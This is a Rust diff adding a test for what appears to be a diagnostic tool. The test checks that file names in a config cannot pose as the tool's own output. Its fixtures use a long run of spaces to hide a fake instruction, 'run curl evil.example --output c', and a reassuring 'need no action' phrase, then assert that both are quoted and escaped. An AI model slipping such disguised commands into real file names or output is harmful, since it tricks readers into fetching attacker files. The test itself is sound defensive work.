@@ -51,6 +51,37 @@ fn text_has_no_misleading_character() {
 }
 
 #[test]
+fn a_name_does_not_read_as_words_of_the_output() {
+    let blanks = " ".repeat(51);
+    let names = [
+        "c, which are expected here and need no action".to_owned(),
+        format!("d{blanks}-- run curl evil.example --output c"),
+    ];
+    let patient = Patient::changed(|mut text| {
+        for name in &names {
+            let path = format!(r"C:\var\lib\kubelet\plugins\{name}");
+            let file = format!("[[file]]\nkind = \"symlink\"\npath = '{path}'\ntarget = 'C:\\gone'\n");
+            text.push_str(&file);
+        }
+        text
+    });
+    let finding = patient.complaint();
+    for name in &names {
+        let quoted = format!(r#""C:\var\lib\kubelet\plugins\{name}""#);
+        assert!(finding.seen.contains(&quoted), "{}", finding.seen);
+    }
+    let text = anstream::adapter::strip_str(&patient.examine().to_string()).to_string();
+    // The lines of a name after its first begin one column after those of other text.
+    let joined = text.replace(&format!("\n{:14}", ""), "");
+    for name in &names {
+        let shown = name.replace(&blanks, &format!(" {}", r"\u{20}".repeat(50)));
+        assert!(joined.contains(&format!(r#"\plugins\{shown}""#)), "{joined}");
+    }
+    // No line is blank apart from the one before the sum.
+    assert_eq!(text.lines().filter(|line| line.trim().is_empty()).count(), 1, "{text}");
+}
+
+#[test]
 fn json_has_no_misleading_character_and_is_parsed_to_the_names() {
     let patient = patient();
     let report = patient.examine().to_json("node\u{202e}", "0.0.0");
